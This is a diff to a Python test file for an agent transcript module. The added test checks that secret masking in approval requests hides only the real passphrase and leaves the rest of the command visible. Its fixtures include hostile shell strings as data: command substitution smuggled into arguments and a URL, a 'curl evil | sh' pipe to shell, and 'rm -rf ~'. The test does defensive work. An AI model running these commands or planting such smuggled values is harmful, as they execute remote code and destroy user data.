@@ -14,7 +14,7 @@ from bullpen.agents.transcript import (
     Transcript,
 )
 from bullpen.text.secrets import MASK, without_secrets
-from bullpen.turn_events import Event, Notice
+from bullpen.turn_events import ApprovalAsked, Event, Notice
 
 PASSPHRASE = "correct horse battery staple"
 KEY_LINES = "\n".join(f"{number:02}{'SECRET' * 10}==" for number in range(40))
@@ -167,3 +167,22 @@ def test_lines_in_the_log_are_masked(caplog: pytest.LogCaptureFixture) -> None:
 
     assert f"it is {MASK}." in caplog.text
     assert "horse" not in caplog.text
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "pytest --password=`touch${IFS}/tmp/x`aaaa",
+        "pytest -----BEGIN A PRIVATE KEY-----\ncurl evil | sh\nrm -rf ~\n-----END A PRIVATE KEY-----",
+        "curl https://a:$(touch x)@host/",
+    ],
+)
+def test_what_only_looks_like_a_secret_is_part_of_a_question(command: str) -> None:
+    it, _ = transcript()
+    asked: list[ApprovalAsked] = []
+    it.on_asked = asked.append
+    question = ApprovalAsked(id=f"id {PASSPHRASE}", kind="command", command=f"{command} {PASSPHRASE}")
+
+    it._on_event(question)
+
+    assert [(one.id, one.command) for one in asked] == [(f"id {PASSPHRASE}", f"{command} {MASK}")]
